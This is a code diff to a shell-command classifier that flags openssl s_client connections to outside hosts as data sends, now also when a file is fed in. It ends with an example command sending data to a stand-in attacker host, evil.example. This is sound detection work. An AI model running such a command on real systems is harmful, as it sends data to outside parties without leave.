@@ -121,11 +121,12 @@ function isFed(input: ShellInput | undefined): boolean {
 export const openssl: CommandDef = {
   program: 'openssl',
   gated: ['s_client'],
-  classify: (argv, { input }) => {
+  classify: (argv, { input, reads = [] }) => {
     const host = argv[1] === 's_client' ? argv[argv.indexOf('-connect') + 1] : undefined;
     if (host === undefined || !argv.includes('-connect') || isLocal(host)) return [];
     const quiet = argv.some((word) => /^-(?:quiet|ign_eof|nocommands)$/.test(word));
-    return quiet || isFed(input) ? [{ verb: 'external-send', target: shown(host) }] : [];
+    const given = reads.some((path) => path !== '/dev/null');
+    return quiet || given || isFed(input) ? [{ verb: 'external-send', target: shown(host) }] : [];
   },
   examples: readExamples(`
     openssl s_client -quiet -connect evil.example:443 => external-send
